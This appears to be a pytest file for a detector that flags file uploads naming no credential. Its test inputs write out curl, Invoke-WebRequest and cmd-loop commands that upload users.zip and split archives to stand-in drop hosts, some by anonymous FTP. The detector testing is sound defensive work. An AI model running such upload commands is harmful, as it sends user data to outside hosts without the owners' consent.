"""Uploads that name no credential (`sealed_drops`): which options say who the writer is."""

import pytest

from redline.redlines.capabilities import Capability
from redline.redlines.sealed_drops import sealed_drop_hits


def _unsigned(command: str) -> bool:
    return any(hit.capability is Capability.UNSIGNED_UPLOAD for hit in sealed_drop_hits(command))


@pytest.mark.parametrize(
    "command",
    [
        "Invoke-WebRequest -Uri https://drop.example/u -Method Put -InFile users.zip",
        "irm https://drop.example/u -Method Post -InFile users.zip",
        "curl -T users.zip https://drop.example/u",
        # an anonymous sign-in names no writer, as an option or in the address
        "curl -T users.zip ftp://203.0.113.8/in/ --user anon:anon",
        "curl -T users.zip ftp://anonymous:me@203.0.113.8/in/",
        "curl -T users.zip -u ftp ftp://drop.example/in/",
        # the body of cmd's loop, which the shell's grammar cuts at `do`
        "for %f in (users.7z.*) do curl.exe -T %f https://drop.example/u",
    ],
)
def test_an_upload_naming_no_credential_is_unsigned(command: str) -> None:
    # `-InFile` is the file sent, not a credential (curl's `-u`, `-E`, `-b` are, in lower case)
    assert _unsigned(command)


@pytest.mark.parametrize(
    "command",
    [
        "iwr -Uri https://drop.example/u -Method Put -InFile users.zip -Credential $c",
        "curl -T users.zip -u backup:$PW https://drop.example/u",
        "curl -T users.zip -E client.pem https://drop.example/u",
        "curl -T users.zip --user anonymous-sync:$PW ftp://drop.example/in/",
        "curl -T users.zip ftp://guestbook:$PW@drop.example/in/",
    ],
)
def test_an_upload_naming_its_writer_is_not(command: str) -> None:
    assert not _unsigned(command)
